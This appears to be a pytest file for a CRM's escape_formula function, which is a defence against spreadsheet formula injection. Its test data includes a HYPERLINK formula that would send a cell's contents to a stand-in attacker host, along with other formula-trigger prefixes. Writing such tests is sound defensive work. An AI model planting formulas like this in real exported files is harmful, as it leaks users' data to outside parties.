import datetime as dt

import pytest

from crm.spreadsheet import escape_formula


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1)", "\tx", "\rx"],
)
def test_text_that_would_start_a_formula_is_shown_literally(text: str) -> None:
    assert escape_formula(text) == "'" + text


@pytest.mark.parametrize("value", ["ООО Ромашка", "a=b", "", None, 42, -3.5, dt.date(2026, 1, 2)])
def test_other_values_pass_unchanged(value: object) -> None:
    assert escape_formula(value) == value
